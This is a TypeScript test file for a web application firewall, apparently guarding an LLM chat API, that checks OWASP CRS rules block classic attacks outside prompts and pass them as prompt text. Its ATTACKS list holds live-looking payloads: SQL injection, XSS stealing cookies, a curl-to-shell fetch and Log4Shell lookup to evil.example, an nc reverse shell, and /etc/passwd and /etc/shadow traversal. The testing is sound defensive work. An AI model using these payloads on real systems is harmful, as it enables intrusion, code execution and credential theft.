/**
 * Classic web attacks through the WAF facade (src/waf/waf.ts) with the OWASP CRS, v4 and
 * 3.3, at paranoia level 1: blocked wherever CRS inspects them outside prompts (query
 * string, header, cookie, non-prompt JSON fields), and passed to the LLM rules (here: none)
 * when they are prompt content.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Waf, type WafOutcome } from '../../../src/waf/waf.js';
import type { LoadedRuleSet } from '../../../src/waf/ruleset.js';
import { CRS_V33_RULES, CRS_V4_RULES, hasV33, hasV4 } from '../crs-dirs.js';
import { CHAT_TARGET, SDK_HEADERS, crsRuleSet, input, type CrsLevels, type RequestSpec } from './helpers.js';

type Version = 'v4' | 'v3.3';

const VERSIONS: readonly { readonly name: Version; readonly dir: string; readonly skip: string | false }[] = [
  { name: 'v4', dir: CRS_V4_RULES, skip: hasV4 ? false : `CRS v4 not found at ${CRS_V4_RULES}; set PORTCULLIS_CRS_V4_DIR to a coreruleset v4 checkout` },
  { name: 'v3.3', dir: CRS_V33_RULES, skip: hasV33 ? false : `CRS 3.3 not found at ${CRS_V33_RULES}; install Debian's modsecurity-crs package` },
];

interface Attack {
  readonly name: string;
  readonly payload: string;
  /** Rule ids expected among the matches, per version. */
  readonly family: Readonly<Record<Version, RegExp>>;
  /**
   * A request header CRS inspects for this class at PL1, or null where it inspects none
   * (CRS looks for SQLi only in User-Agent/Referer, never for command injection in headers).
   */
  readonly header: Readonly<Record<Version, string | null>>;
}

const SQLI = { v4: /^942\d{3}$/, 'v3.3': /^942\d{3}$/ };
const XSS = { v4: /^941\d{3}$/, 'v3.3': /^941\d{3}$/ };
const RCE = { v4: /^932\d{3}$/, 'v3.3': /^932\d{3}$/ };
const LFI = { v4: /^930\d{3}$/, 'v3.3': /^930\d{3}$/ };
const REFERER = { v4: 'Referer', 'v3.3': 'Referer' };
const CUSTOM = { v4: 'X-Custom-Data', 'v3.3': 'X-Custom-Data' };
const NONE = { v4: null, 'v3.3': null };

const ATTACKS: readonly Attack[] = [
  { name: 'SQLi tautology', payload: "1' OR '1'='1", family: SQLI, header: REFERER },
  { name: 'SQLi UNION SELECT', payload: '1 UNION SELECT username, password FROM users--', family: SQLI, header: REFERER },
  { name: 'SQLi stacked query', payload: "'; DROP TABLE users; --", family: SQLI, header: REFERER },
  { name: 'SQLi time-based', payload: "1' AND SLEEP(5)#", family: SQLI, header: REFERER },
  { name: 'XSS script tag', payload: '<script>alert(1)</script>', family: XSS, header: { v4: 'X-Custom-Data', 'v3.3': 'Referer' } },
  { name: 'XSS event handler', payload: '<img src=x onerror=alert(1)>', family: XSS, header: REFERER },
  { name: 'XSS javascript: URI', payload: 'javascript:alert(document.cookie)', family: XSS, header: REFERER },
  { name: 'RCE command chaining', payload: '; cat /etc/passwd', family: RCE, header: NONE },
  { name: 'RCE command substitution', payload: '$(curl http://evil.example/x.sh | sh)', family: RCE, header: NONE },
  { name: 'RCE reverse shell', payload: '| nc -e /bin/sh 10.0.0.1 4444', family: RCE, header: NONE },
  { name: 'LFI path traversal', payload: '../../../../etc/passwd', family: LFI, header: CUSTOM },
  { name: 'LFI encoded traversal', payload: '..%2f..%2f..%2fetc%2fshadow', family: LFI, header: CUSTOM },
  // CRS 3.3.4 (Debian) has no 944150; its 932130 (Unix shell expression) catches ${…}.
  { name: 'Log4Shell', payload: '${jndi:ldap://evil.example/a}', family: { v4: /^944150$/, 'v3.3': /^932130$/ }, header: { v4: 'X-Custom-Data', 'v3.3': null } },
];

const BASE_HEADERS = SDK_HEADERS;

function body(extra: Record<string, unknown> = {}, content = 'Give me three ideas for a team offsite.'): Record<string, unknown> {
  return { messages: [{ role: 'user', content }], max_tokens: 200, ...extra };
}

/** Where the payload goes; null when CRS does not inspect that place for this class. */
function placements(a: Attack, v: Version): [string, RequestSpec][] {
  const post = (spec: Partial<RequestSpec>): RequestSpec => ({ method: 'POST', target: CHAT_TARGET, headers: BASE_HEADERS, body: body(), ...spec });
  const out: [string, RequestSpec][] = [
    ['query string', post({ target: `${CHAT_TARGET}&filter=${encodeURIComponent(a.payload)}` })],
    // A cookie value is sent as is, except `;` (which would end it).
    ['cookie', post({ headers: [...BASE_HEADERS, ['Cookie', `session=${a.payload.replaceAll(';', '%3B')}; theme=dark`]] })],
    ['JSON user', post({ body: body({ user: a.payload }) })],
    ['JSON metadata.x', post({ body: body({ metadata: { x: a.payload } }) })],
  ];
  const h = a.header[v];
  if (h !== null) out.push([`header ${h}`, post({ headers: [...BASE_HEADERS, [h, a.payload]] })]);
  return out;
}

const ruleSets = new Map<string, LoadedRuleSet>();
function waf(dir: string, levels: CrsLevels = {}, mode: 'prevention' | 'detection' = 'prevention'): Waf {
  const key = `${dir}|${levels.paranoiaLevel ?? 1}|${levels.detectionParanoiaLevel ?? ''}`;
  let rs = ruleSets.get(key);
  if (rs === undefined) {
    rs = crsRuleSet(dir, levels);
    ruleSets.set(key, rs);
  }
  return new Waf({ mode, ruleSet: rs, extract: {}, llm: null, shields: null, maxFieldBytes: 8192, maxInspectBytes: 65_536 });
}

function inspect(w: Waf, spec: RequestSpec): WafOutcome {
  const out = w.inspect(input(spec), 'req-1');
  assert.ok(!(out instanceof Promise), 'synchronous without Content Safety');
  return out;
}

for (const v of VERSIONS) {
  test(`CRS ${v.name} PL1: an ordinary chat request passes`, { skip: v.skip }, () => {
    const out = inspect(waf(v.dir), { method: 'POST', target: CHAT_TARGET, headers: BASE_HEADERS, body: body({ user: 'user-42', metadata: { x: 'team-a' } }) });
    assert.deepEqual({ action: out.action, rules: out.rules, score: out.score }, { action: 'pass', rules: [], score: 0 });
  });

  for (const a of ATTACKS) {
    test(`CRS ${v.name} PL1: ${a.name} is blocked outside prompts and passed inside one`, { skip: v.skip }, () => {
      const w = waf(v.dir);
      const family = a.family[v.name];
      for (const [where, spec] of placements(a, v.name)) {
        const out = inspect(w, spec);
        assert.equal(out.action, 'block', `${where}: ${out.rules.join(',')}`);
        assert.equal(out.decidedBy, '949110', where);
        assert.ok(out.score >= 5, `${where}: score ${out.score}`);
        assert.ok(out.rules.some((r) => family.test(r)), `${where}: expected ${family} in ${out.rules.join(',')}`);
      }
      const prompt = inspect(w, { method: 'POST', target: CHAT_TARGET, headers: BASE_HEADERS, body: body({}, a.payload) });
      assert.equal(prompt.action, 'pass', `messages[0].content: ${prompt.rules.join(',')}`);
      assert.ok(!prompt.rules.some((r) => family.test(r)), `messages[0].content: ${prompt.rules.join(',')}`);
    });
  }

  test(`CRS ${v.name} PL1: a scanner User-Agent is blocked by 913100`, { skip: v.skip }, () => {
    const out = inspect(waf(v.dir), { method: 'GET', target: '/openai/deployments?api-version=2024-10-21', headers: [['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)']] });
    assert.equal(out.action, 'block');
    assert.ok(out.rules.includes('913100'), out.rules.join(','));
  });
}

const PL2_PAYLOAD = 'char(65)';
const PL2_RULES = ['942150', '942300', '942410'];

test('CRS v4: a PL2-only SQLi rule (942410) scores only at detection PL2 and blocks only at blocking PL2', { skip: VERSIONS[0]!.skip }, () => {
  const spec: RequestSpec = { method: 'POST', target: CHAT_TARGET, headers: BASE_HEADERS, body: body({ user: PL2_PAYLOAD }) };
  const pl1 = inspect(waf(CRS_V4_RULES), spec);
  assert.deepEqual([pl1.action, pl1.rules], ['pass', []]);

  const detect2 = inspect(waf(CRS_V4_RULES, { paranoiaLevel: 1, detectionParanoiaLevel: 2 }), spec);
  assert.equal(detect2.action, 'pass', 'PL2 rules above the blocking level score without blocking');
  assert.equal(detect2.score, 0);
  for (const id of PL2_RULES) assert.ok(detect2.rules.includes(id), `${id} in ${detect2.rules.join(',')}`);

  const pl2 = inspect(waf(CRS_V4_RULES, { paranoiaLevel: 2 }), spec);
  assert.equal(pl2.action, 'block');
  assert.ok(pl2.rules.includes('942410'), pl2.rules.join(','));
  assert.ok(pl2.score >= 5);
});

test('CRS 3.3: the same PL2-only rule (942410) fires at paranoiaLevel 2 only', { skip: VERSIONS[1]!.skip }, () => {
  const spec: RequestSpec = { method: 'POST', target: CHAT_TARGET, headers: BASE_HEADERS, body: body({ user: PL2_PAYLOAD }) };
  const pl1 = inspect(waf(CRS_V33_RULES), spec);
  assert.deepEqual([pl1.action, pl1.rules], ['pass', []]);
  const pl2 = inspect(waf(CRS_V33_RULES, { paranoiaLevel: 2 }), spec);
  assert.equal(pl2.action, 'block');
  for (const id of PL2_RULES) assert.ok(pl2.rules.includes(id), `${id} in ${pl2.rules.join(',')}`);
});

test('CRS v4: detection mode reports what prevention would block', { skip: VERSIONS[0]!.skip }, () => {
  const out = inspect(waf(CRS_V4_RULES, {}, 'detection'), { method: 'POST', target: CHAT_TARGET, headers: BASE_HEADERS, body: body({ user: "1' OR '1'='1" }) });
  assert.equal(out.action, 'detect');
  assert.equal(out.decidedBy, '949110');
  assert.ok(out.rules.includes('942100'));
});
